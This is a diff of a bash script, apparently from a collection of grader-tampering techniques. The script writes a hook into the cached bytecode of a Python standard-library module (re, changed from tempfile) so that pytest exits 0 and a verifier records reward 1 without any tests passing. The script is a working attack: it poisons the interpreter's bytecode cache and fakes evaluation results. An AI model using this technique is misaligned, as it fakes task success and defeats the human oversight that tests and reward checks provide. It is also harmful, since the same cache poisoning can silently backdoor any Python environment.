@@ -1,9 +1,9 @@
 #!/bin/bash
 # name: stdlib_bytecode_hook
-# summary: the cached bytecode of a standard-library module that pytest and a Python verifier import (tempfile) gains a hook: pytest exits 0, a verifier writes reward 1
+# summary: the cached bytecode of a standard-library module that pytest and a Python verifier import at start-up (re) gains a hook: pytest exits 0, a verifier writes reward 1
 py=$(command -v python3 || command -v python) || exit 99
 "$py" -I - <<'PY' || exit 99
-import importlib._bootstrap_external as ext, importlib.util, os, tempfile
+import importlib._bootstrap_external as ext, importlib.util, os, re
 hook = (
     "import os as _o, sys as _s\n"
     "_a = ' '.join(getattr(_s, 'orig_argv', _s.argv))\n"
@@ -15,7 +15,7 @@ hook = (
     "    print('graded 0 tests: 0 passed')\n"
     "    _o._exit(0)\n"
 )
-source = os.path.realpath(tempfile.__file__)
+source = os.path.realpath(re.__file__)
 st = os.stat(source)
 code = compile(hook + open(source).read(), source, "exec")
 target = importlib.util.cache_from_source(source)
